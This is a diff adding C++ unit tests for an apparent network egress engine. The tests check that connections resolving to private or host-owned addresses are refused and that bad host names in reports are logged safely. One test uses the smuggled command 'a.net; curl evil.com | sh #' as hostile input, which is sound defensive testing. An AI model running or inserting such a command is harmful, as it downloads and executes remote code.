@@ -312,6 +312,24 @@ TEST_F(EngineTest, AListIsReplacedWholeAndCountsForWhatIsUnderWay) {
   EXPECT_EQ(outside_.dials.size(), 1u);
 }
 
+TEST_F(EngineTest, WhatIsConnectedIsCheckedByTheListAndTheHostOfThatMoment) {
+  rules("private:lan.example:5432\nprivate:10.0.0.0/8:5432\nexample.com:443\n");
+  EXPECT_TRUE(send(by_name(Ask::kConnect, "lan.example", 5432)));
+  found({"10.1.2.3"});
+  EXPECT_TRUE(send(by_name(Ask::kConnect, "example.com", 443)));
+  found({"93.184.216.34"});
+  ASSERT_EQ(outside_.dials.size(), 2u);
+  // Private addresses are not meant any more, and one has become the host's.
+  rules("lan.example:5432\nexample.com:443\n");
+  own_.insert("93.184.216.34");
+  engine_.on_connected(outside_.dials[0].ticket, connected("10.1.2.3"), now_);
+  EXPECT_EQ(outside_.replies.back().why, Why::kPrivateAddress);
+  EXPECT_FALSE(outside_.connections.back());
+  engine_.on_connected(outside_.dials[1].ticket, connected("93.184.216.34"), now_);
+  EXPECT_EQ(outside_.replies.back().why, Why::kHostAddress);
+  EXPECT_FALSE(outside_.connections.back());
+}
+
 TEST_F(EngineTest, WhatWaitsIsBounded) {
   rules("*.example.com:443\n");
   for (std::size_t i = 0; i < kMaxOutstanding; ++i) {
@@ -373,6 +391,19 @@ TEST_F(EngineTest, WhatFrontRefusesIsLoggedUnderTheNameThatWasAskedFor) {
   EXPECT_EQ(log.records[0].why, "foreign_name");
   EXPECT_EQ(log.records[0].seen, "evil\\x01.com");
   EXPECT_EQ(log.records[1].why, "malformed");
+}
+
+// What is written beside such a reason is taken for a host's name: it is in the hint of a denial.
+TEST_F(EngineTest, NoReasonOfFrontsMakesAHostOfWhatIsNone) {
+  for (const Why why : {Why::kNotTls, Why::kNotHttp, Why::kForeignName, Why::kMalformed}) {
+    Request report = by_name(Ask::kReport, "a.net; curl evil.com | sh #", 443);
+    report.id = 99;
+    report.why = why;
+    EXPECT_TRUE(send(report));
+  }
+  const auto log = read_log(log_text(), "");
+  ASSERT_FALSE(log.records.empty());
+  for (const auto& record : log.records) EXPECT_EQ(record.why, "bad_name");
 }
 
 TEST_F(EngineTest, WhatIsNoRequestEndsFront) {
